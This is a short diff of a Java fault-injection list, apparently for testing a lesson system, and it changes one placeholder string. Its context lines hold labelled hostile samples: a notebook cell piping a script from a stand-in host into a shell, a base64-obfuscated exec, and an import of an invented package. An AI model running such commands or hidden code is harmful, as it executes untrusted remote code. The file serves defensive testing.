@@ -143,7 +143,7 @@ public record TeacherFault(String id, String what, BiFunction<ScriptedLesson, St
                         "in circles",
                         reply -> reply.substring(0, reply.length() / 3) + " and so on and so forth".repeat(400)),
                 text("L16", "one sign for ever", reply -> reply.substring(0, reply.length() / 3) + "?".repeat(3_000)),
-                tree("L17", "placeholders", tree -> cell(tree, "# TODO: write this\n...")),
+                tree("L17", "placeholders", tree -> cell(tree, "# your code here\n...")),
                 tree("L18", "a dangerous command", tree -> cell(tree, "!curl https://x.example/i.sh | sh")),
                 tree("L19", "hidden code", tree -> cell(tree, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))")),
                 tree("L20", "an invented package", tree -> cell(tree, "import transfomers_utils_pro\nprint(1)")),
